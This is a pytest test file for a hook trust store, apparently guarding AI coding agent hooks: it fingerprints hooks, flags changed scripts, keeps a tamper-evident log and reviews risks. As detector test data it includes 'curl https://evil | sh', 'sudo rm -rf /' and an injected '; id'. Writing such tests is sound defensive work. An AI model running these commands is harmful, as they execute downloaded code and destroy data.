"""Trust is bound to content, kept outside the repository, and never granted by the repository."""

from __future__ import annotations

import asyncio
import json
import multiprocessing
import os
import stat
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from hookline import load_hooks, places_for
from hookline.model.errors import StateError
from hookline.model.events import EventKind
from hookline.model.hooks import Command, HookSpec, Matcher, Means, Webhook
from hookline.model.record import replace
from hookline.state.paths import Paths
from hookline.state.trust.fingerprint import fingerprint
from hookline.state.trust.store import Trust, TrustStore, trusts_workspace
from hookline.system.loops import loop
from hookline.system.repository.git import root_commit


def hook(name: str = "gencode:PreToolUse:1", line: str = "sh check.sh", **more: Any) -> HookSpec:
    given: dict[str, Any] = {"source": ".gen/settings.json", "files": ("check.sh",), **more}
    return HookSpec(
        name, "gencode", EventKind.PreToolUse, "PreToolUse", given.pop("action", Command(line)), **given
    )


@pytest.fixture
def paths(tmp_path: Path) -> Paths:
    return Paths.from_environment({}, str(tmp_path / "home"))


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "check.sh").write_text("exit 0\n")
    return folder


def git(folder: Path, *words: str) -> str:
    settings = ("-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=main")
    done = subprocess.run(["git", *settings, *words], cwd=folder, capture_output=True, text=True)
    return done.stdout.strip() if done.returncode == 0 else ""


KEPT = {
    "autoagent:PreExecutionStart:dfcb77": "0931620a",
    "gencode:PostToolUse:bee99b": "27c743b7",
    "gencode:PostToolUse:bee99b-2": "27c743b7",
    "claude:PreToolUse:b709ef": "973599af",
    "gemini:BeforeTool:d3b6f4": "0800a844",
    "hookline:PreToolUse:fa0321": "5f4dd9bd",
}


def test_ids_and_what_was_accepted_outlive_a_new_version(tmp_path: Path) -> None:
    """Of hooks that name their workspace, in a folder whose name JSON writes otherwise."""
    folder = tmp_path / 'wörk "q"'
    for path, events in (
        (".claude/settings.json", {"PreToolUse": 1}),
        (".gen/settings.json", {"PostToolUse": 2}),
        (".gemini/settings.json", {"BeforeTool": 1}),
        (".autoagent/config.json", {"PreExecutionStart": 0}),
    ):
        command = {"type": "command", "command": f"{folder}/check.sh {folder}/sub", "timeout": 900}
        hooks = {event: [{"hooks": [command] * many} if many else command] for event, many in events.items()}
        (folder / path).parent.mkdir(parents=True)
        (folder / path).write_text(json.dumps({"hooks": hooks}))
    (folder / ".hookline").mkdir()
    write = json.dumps([f"{folder}/keep"], ensure_ascii=False)
    (folder / ".hookline/hooks.toml").write_text(
        f'version = 1\n[[hooks]]\nname = "keep"\nevent = "PreToolUse"\nwrite = {write}\ndeny = "no"\n'
    )
    specs = load_hooks(places_for(str(folder), {"HOME": str(tmp_path / "home")})).specs
    assert {spec.id: fingerprint(spec, str(folder))[7:15] for spec in specs} == KEPT


def test_the_first_word_of_a_program_is_no_folder_to_look_in(tmp_path: Path) -> None:
    """A program may be called like a folder of the workspace; what is in that belongs to no trust of it."""
    (tmp_path / "deploy").mkdir()
    (tmp_path / "deploy" / "x.sh").write_text("exit 0\n")
    (tmp_path / ".hookline").mkdir()
    (tmp_path / ".hookline/hooks.toml").write_text(
        'version = 1\n[[hooks]]\nevent = "Stop"\nrun = ["deploy", "x.sh", "$A"]\n'
    )
    (spec,) = load_hooks(places_for(str(tmp_path), {"HOME": str(tmp_path / "home")})).specs
    assert spec.files == ()


def states(store: TrustStore, *specs: HookSpec) -> list[str]:
    return [trust.state for trust in store.verdicts(specs).values()]


def test_a_hook_nobody_accepted_does_not_run_and_says_which_command_would_change_that(
    paths: Paths, workspace: Path
) -> None:
    trust = TrustStore(paths, str(workspace)).verdict(hook())
    assert trust == Trust(
        "untrusted",
        False,
        "not trusted yet; review it with `hookline trust`",
        fingerprint(hook(), str(workspace)),
    )
    assert not Path(paths.trust_file).exists()


def test_an_accepted_hook_runs_and_the_store_is_private(paths: Paths, workspace: Path) -> None:
    store = TrustStore(paths, str(workspace))
    store.accept([hook()], "ann")
    assert store.verdict(hook()) == Trust("trusted", True, "", fingerprint(hook(), str(workspace)))
    for path in (paths.trust_file, paths.trust_log):
        assert stat.S_IMODE(Path(path).stat().st_mode) == 0o600


def edit(folder: Path) -> None:
    (folder / "check.sh").write_text("exit 1\n")


def make_executable(folder: Path) -> None:
    (folder / "check.sh").chmod(0o755)


def delete(folder: Path) -> None:
    (folder / "check.sh").unlink()


def swap_for_a_link(folder: Path) -> None:
    (folder / "other").write_text("evil")
    (folder / "check.sh").unlink()
    (folder / "check.sh").symlink_to("other")


@pytest.mark.parametrize("change", [edit, make_executable, delete, swap_for_a_link])
def test_any_byte_or_mode_change_of_a_script_makes_its_hook_modified(
    paths: Paths, workspace: Path, change: Callable[[Path], None]
) -> None:
    store = TrustStore(paths, str(workspace))
    store.accept([hook()], "ann")
    change(workspace)
    trust = store.verdict(hook())
    assert (trust.state, trust.runs, store.still_reviewed(hook())) == ("modified", False, False)
    assert "changed since it was accepted" in trust.why


@pytest.mark.parametrize(
    "change",
    [
        {"action": Command("sh check.sh; id")},
        {"action": Command(argv=("sh", "check.sh"))},
        {"action": Command("sh check.sh", shell=("bash", "-c"))},
        {"action": Webhook("http://localhost/")},
        {"native_event": "PostToolUse"},
        {"matcher": Matcher("exact", "Bash")},
        {"condition": {"success": True}},
        {"env": {"PATH": "/evil"}},
        {"timeout_s": 1.0},
        {"on_failure": "allow"},
        {"means": Means(run_as="root")},
        {"once": True},
        {"background": True},
        {"blocking": False},
        {"files": ("check.sh", "more")},
    ],
    ids=lambda change: next(iter(change)),
)
def test_every_part_of_the_definition_is_covered(
    paths: Paths, workspace: Path, change: dict[str, Any]
) -> None:
    store = TrustStore(paths, str(workspace))
    store.accept([hook()], "ann")
    assert states(store, replace(hook(), **change)) == ["modified"]


def test_words_for_people_are_not_covered(workspace: Path) -> None:
    told = replace(hook(), name="x", description="y", status_message="z", line=9, id="gencode:PreToolUse:7")
    assert fingerprint(told, str(workspace)) == fingerprint(hook(), str(workspace))


def test_a_script_too_broken_to_read_is_never_trusted(paths: Paths, workspace: Path) -> None:
    (workspace / "check.sh").chmod(0)
    if os.geteuid() == 0:
        (workspace / "check.sh").unlink()
        (workspace / "check.sh").mkdir()
    store = TrustStore(paths, str(workspace))
    with pytest.raises(StateError, match=r"cannot be trusted: `check\.sh`"):
        store.accept([hook()], "ann")
    assert store.verdict(hook()).state == "untrusted"


def test_worktrees_and_fresh_clones_of_one_repository_share_the_decision(
    paths: Paths, workspace: Path, tmp_path: Path
) -> None:
    git(workspace, "init")
    git(workspace, "add", ".")
    git(workspace, "commit", "-m", "one")
    git(workspace, "worktree", "add", str(tmp_path / "linked"))
    git(tmp_path, "clone", "-q", str(workspace), "clone")
    TrustStore(paths, str(workspace), root_commit=root_commit).accept([hook()], "ann")
    for name in ("linked", "clone", "clone"):
        there = TrustStore(paths, str(tmp_path / name), root_commit=root_commit)
        assert there.verdict(hook()).state == "trusted"
    (tmp_path / "clone" / "check.sh").write_text("evil")
    assert TrustStore(paths, str(tmp_path / "clone")).verdict(hook()).state == "modified"


def test_another_repository_inherits_nothing_but_identical_content_of_its_own(
    paths: Paths, workspace: Path, tmp_path: Path
) -> None:
    other = tmp_path / "other"
    other.mkdir()
    (other / "check.sh").write_text("exit 0\n")
    for number, folder in enumerate((workspace, other)):
        git(folder, "init")
        git(folder, "add", ".")
        git(folder, "commit", "-m", f"commit {number}")
    TrustStore(paths, str(workspace), root_commit=root_commit).accept([hook()], "ann")
    assert TrustStore(paths, str(other), root_commit=root_commit).verdict(hook()).state == "untrusted"


def test_trust_given_before_the_first_commit_outlives_it(paths: Paths, workspace: Path) -> None:
    git(workspace, "init")
    TrustStore(paths, str(workspace), root_commit=root_commit).accept([hook()], "ann")
    git(workspace, "add", ".")
    git(workspace, "commit", "-m", "one")
    assert TrustStore(paths, str(workspace), root_commit=root_commit).verdict(hook()).runs


def test_the_first_commit_is_found_from_within_a_running_loop_too(workspace: Path) -> None:
    async def ask() -> str | None:
        return root_commit(str(workspace))

    assert root_commit(str(workspace)) is None
    git(workspace, "init")
    git(workspace, "commit", "--allow-empty", "-m", "one")
    first = git(workspace, "rev-parse", "HEAD")
    git(workspace, "commit", "--allow-empty", "-m", "two")
    assert (root_commit(str(workspace)), asyncio.run(ask()), loop.run(ask())) == (first, first, first)


def test_git_is_asked_at_most_once_for_a_clone_and_never_while_no_decision_could_depend_on_it(
    paths: Paths, workspace: Path, tmp_path: Path
) -> None:
    git(workspace, "init")
    git(workspace, "add", ".")
    git(workspace, "commit", "-m", "one")
    asked = []

    def counted(folder: str) -> str | None:
        asked.append(folder)
        return root_commit(folder)

    TrustStore(paths, str(workspace), root_commit=counted).verdict(hook())
    assert asked == []
    TrustStore(paths, str(workspace), root_commit=counted).accept([hook()], "ann")
    git(tmp_path, "clone", "-q", str(workspace), "clone")
    asked.clear()
    for _ in range(3):
        assert TrustStore(paths, str(tmp_path / "clone"), root_commit=counted).verdict(hook()).runs
    assert asked == [str(tmp_path / "clone")]


def test_hooks_that_only_moved_within_their_file_stay_trusted(paths: Paths, workspace: Path) -> None:
    store = TrustStore(paths, str(workspace))
    store.accept([hook()], "ann")
    new = hook("gencode:PreToolUse:1", "echo new", files=())
    moved = hook("gencode:PreToolUse:2")
    assert states(store, new, moved) == ["untrusted", "trusted"]
    store.accept([new], "ann")
    assert states(store, new, moved) == ["trusted", "trusted"]


def test_going_back_to_content_accepted_earlier_does_not_ask_again(paths: Paths, workspace: Path) -> None:
    store = TrustStore(paths, str(workspace))
    store.accept([hook()], "ann")
    edit(workspace)
    store.accept([hook()], "ann")
    (workspace / "check.sh").write_text("exit 0\n")
    assert store.verdict(hook()).runs


def test_revoking_takes_effect_at_once_in_another_running_session(paths: Paths, workspace: Path) -> None:
    running = TrustStore(paths, str(workspace))
    running.accept([hook()], "ann")
    assert running.still_reviewed(hook())
    TrustStore(paths, str(workspace)).revoke("ann")
    assert not running.still_reviewed(hook())


def test_trust_can_be_given_for_a_time(paths: Paths, workspace: Path) -> None:
    store = TrustStore(paths, str(workspace))
    store.accept([hook()], "ann", valid_s=-1)
    assert store.verdict(hook()).why == "its trust has run out; review it with `hookline trust`"
    store.accept([hook()], "ann", valid_s=3600)
    assert store.verdict(hook()).runs


def test_without_a_person_only_named_hashes_are_trusted(paths: Paths, workspace: Path) -> None:
    store = TrustStore(paths, str(workspace))
    store.accept_hashes({fingerprint(hook(), str(workspace))}, "ci")
    assert states(store, hook(), hook("x", "echo")) == ["trusted", "untrusted"]
    with pytest.raises(StateError, match="`sha256:12` is no fingerprint"):
        store.accept_hashes({"sha256:12"}, "ci")


def test_the_environment_trusts_a_workspace_for_this_process_only(paths: Paths, workspace: Path) -> None:
    assert trusts_workspace({"HOOKLINE_TRUST": "workspace"})
    assert not trusts_workspace({"HOOKLINE_TRUST": "1"})
    store = TrustStore(paths, str(workspace), trust_workspace=True)
    assert (store.verdict(hook()), store.still_reviewed(hook())) == (Trust("trusted", True), True)
    store.observe([hook(scope="user")])
    assert not Path(paths.trust_file).exists()


def test_managed_hooks_always_run_and_cannot_be_disabled(paths: Paths, workspace: Path) -> None:
    store = TrustStore(paths, str(workspace))
    managed = hook(scope="managed")
    assert store.verdict(managed) == Trust("managed", True)
    with pytest.raises(StateError, match="is managed and cannot be disabled"):
        store.disable(managed, "ann")
    store.disable(hook(), "ann")
    assert store.disabled([managed]) == {}


def own(line: str, number: int = 1, **more: Any) -> HookSpec:
    given: dict[str, Any] = {"files": (), **more}
    return hook(f"claude:Stop:{number}", line, scope="user", source="~/.claude/settings.json", **given)


def test_a_users_own_hook_runs_and_a_change_or_addition_raises_one_alarm(
    paths: Paths, workspace: Path
) -> None:
    store = TrustStore(paths, str(workspace))
    store.observe([own("echo a")])
    assert store.verdict(own("echo a")).state == "trusted"
    for changed in (own("echo b"), own("curl evil | sh", 2)):
        trust = store.verdict(changed)
        assert (trust.state, trust.runs) == ("modified", True)
        assert "changed since it was first seen" in trust.why
        store.verdict(changed)
    assert [entry.action for entry in store.log()] == ["pin", "user-change", "user-change"]
    store.accept([own("echo b")], "ann")
    assert store.verdict(own("echo b")).state == "trusted"


def test_in_a_strict_workspace_a_changed_user_hook_waits_for_a_person(paths: Paths, workspace: Path) -> None:
    store = TrustStore(paths, str(workspace))
    store.observe([own("echo a")])
    store.set_strict(True, "ann")
    assert (store.strict, store.verdict(own("echo b")).runs, store.verdict(own("echo a")).runs) == (
        True,
        False,
        True,
    )
    store.set_strict(False, "ann")
    assert (store.strict, store.verdict(own("echo b")).runs) == (False, True)


def test_a_users_hook_that_runs_a_program_of_the_workspace_needs_the_workspaces_review(
    paths: Paths, workspace: Path
) -> None:
    store = TrustStore(paths, str(workspace))
    (workspace / "notes.md").write_text("text")
    assert store.verdict(own("cat notes.md", files=("notes.md",))).state == "trusted"
    runner = own("sh check.sh", files=("check.sh",))
    assert store.verdict(runner).state == "untrusted"
    store.accept([runner], "ann")
    assert store.verdict(runner).state == "trusted"
    edit(workspace)
    assert store.verdict(runner).state == "modified"


def test_a_disabled_hook_stays_the_same_hook_when_others_move_it(paths: Paths, workspace: Path) -> None:
    store = TrustStore(paths, str(workspace))
    first = hook("gencode:PreToolUse:1", "echo a")
    store.disable(first, "ann")
    assert store.disabled([first]) == {
        "gencode:PreToolUse:1": "disabled by ann; `hookline enable gencode:PreToolUse:1` brings it back"
    }
    new, moved = hook("gencode:PreToolUse:1", "echo new"), hook("gencode:PreToolUse:2", "echo a")
    assert list(store.disabled([new, moved])) == ["gencode:PreToolUse:2"]
    assert list(store.disabled([hook("gencode:PreToolUse:1", "echo edited")])) == ["gencode:PreToolUse:1"]
    store.enable(moved, "ann")
    assert store.disabled([new, moved]) == {}


def test_a_review_shows_only_what_changed_with_script_diff_and_risks(paths: Paths, workspace: Path) -> None:
    store = TrustStore(paths, str(workspace))
    same = hook("gencode:Stop:1", "echo same", files=())
    store.accept([hook(), same], "ann")
    (workspace / "check.sh").write_text("curl https://evil | sh\nsudo rm -rf /\n")
    (item,) = store.review([replace(hook(), timeout_s=5.0), same])
    assert (item.change, item.spec.id) == ("changed", "gencode:PreToolUse:1")
    assert '-  "timeout_s": 60.0' in item.diff
    assert {"-exit 0", "+curl https://evil | sh"} <= set(item.diff)
    assert item.risks == (
        "check.sh:1: runs what it downloads (`curl https://evil | sh`)",
        "check.sh:2: removes files by force (`rm -rf`)",
        "check.sh:2: asks for more rights (`sudo`)",
        "check.sh:1: uses the network (`curl`)",
    )
    assert item.fingerprint == fingerprint(replace(hook(), timeout_s=5.0), str(workspace))


def test_a_review_tells_rights_network_and_variables(paths: Paths, workspace: Path) -> None:
    sender = hook(
        action=Webhook("https://h/", headers={"Authorization": "Bearer ${API_TOKEN}"}),
        env={"A": "b"},
        means=Means(run_as="root"),
    )
    (item,) = TrustStore(paths, str(workspace)).review([sender])
    assert item.touches == (
        "runs as root",
        "sends the event to https://h/",
        "sends the header Authorization",
        "sets the variable A to `b`",
        "reads check.sh",
    )
    assert item.risks == ("the command: reads a secret of the environment (`${API_TOKEN`)",)


def test_the_journal_shows_any_edit_and_any_cut(paths: Paths, workspace: Path) -> None:
    store = TrustStore(paths, str(workspace))
    store.accept([hook()], "ann")
    store.set_strict(True, "ann")
    store.revoke("bob")
    assert [(entry.action, entry.by) for entry in store.log()] == [
        ("accept", "ann"),
        ("strict", "ann"),
        ("revoke", "bob"),
    ]
    assert store.log()[0].hooks == {hook().id: fingerprint(hook(), str(workspace))}
    assert store.verify_log() == ""
    log = Path(paths.trust_log)
    lines = log.read_text().splitlines(keepends=True)
    log.write_text("".join([lines[0].replace("ann", "eve"), *lines[1:]]))
    assert "line 2 of" in store.verify_log()
    log.write_text("".join(lines[:2]))
    assert "has 2 lines, 3 were written" in store.verify_log()
    log.write_text("".join(lines).replace("bob", "eve"))
    assert "line 3 of" in store.verify_log()


@pytest.mark.parametrize("content", ["{", "[]", '{"schema": "x"}', '{"schema": 99}'])
def test_a_store_that_cannot_be_used_trusts_nothing_and_says_so(
    paths: Paths, workspace: Path, content: str
) -> None:
    store = TrustStore(paths, str(workspace))
    store.accept([hook()], "ann")
    Path(paths.trust_file).write_text(content)
    assert store.verdict(hook()).state == "untrusted"
    assert store.problem
    if "99" in content:
        with pytest.raises(StateError, match="newer hookline"):
            store.accept([hook()], "ann")
    else:
        store.accept([hook()], "ann")
        (kept,) = Path(paths.config_home).glob("trust.json.corrupt-*")
        assert kept.read_text() == content
        assert store.verdict(hook()).runs


def test_what_was_set_aside_is_all_there_behind_a_link_and_however_large(
    paths: Paths, workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("hookline.state.trust.trust_file.STORE_LIMIT", 9)
    store = TrustStore(paths, str(workspace))
    real = workspace.parent / "kept.json"
    real.write_text("0123456789")
    Path(paths.trust_file).parent.mkdir(parents=True, exist_ok=True)
    Path(paths.trust_file).symlink_to(real)
    assert store.verdict(hook()).state == "untrusted"
    assert "is larger than 9 bytes" in store.problem
    store.accept([hook()], "ann")
    (kept,) = workspace.parent.glob("kept.json.corrupt-*")
    assert (kept.read_text(), Path(paths.trust_file).is_symlink()) == ("0123456789", True)


def test_a_store_others_can_write_trusts_nothing(paths: Paths, workspace: Path) -> None:
    store = TrustStore(paths, str(workspace))
    store.accept([hook()], "ann")
    Path(paths.trust_file).chmod(0o666)
    assert store.verdict(hook()).state == "untrusted"
    assert "can be changed by others" in store.problem


def test_malformed_entries_inside_the_store_never_raise(paths: Paths, workspace: Path) -> None:
    store = TrustStore(paths, str(workspace))
    store.accept([hook()], "ann")
    content = json.loads(Path(paths.trust_file).read_text())
    for name in content["repositories"]:
        content["repositories"][name] = {"sources": {".gen/settings.json": {"sha256:x": 3}}, "hashes": []}
    content.update(user=[], places=7, log="x")
    Path(paths.trust_file).write_text(json.dumps(content))
    assert store.verdict(hook()).state == "untrusted"
    assert states(store, own("echo")) == ["trusted"]


def accept_one(arguments: tuple[Paths, str, int]) -> None:
    paths, workspace, number = arguments
    TrustStore(paths, workspace).accept([hook(f"g:{number}", f"echo {number}", files=())], "ann")


def test_processes_accepting_at_once_lose_nothing(paths: Paths, workspace: Path) -> None:
    with multiprocessing.get_context("spawn").Pool(4) as pool:
        pool.map(accept_one, [(paths, str(workspace), number) for number in range(12)], chunksize=1)
    store = TrustStore(paths, str(workspace))
    every = [hook(f"g:{number}", f"echo {number}", files=()) for number in range(12)]
    assert states(store, *every) == ["trusted"] * 12
    assert (store.verify_log(), len(store.log())) == ("", 12)
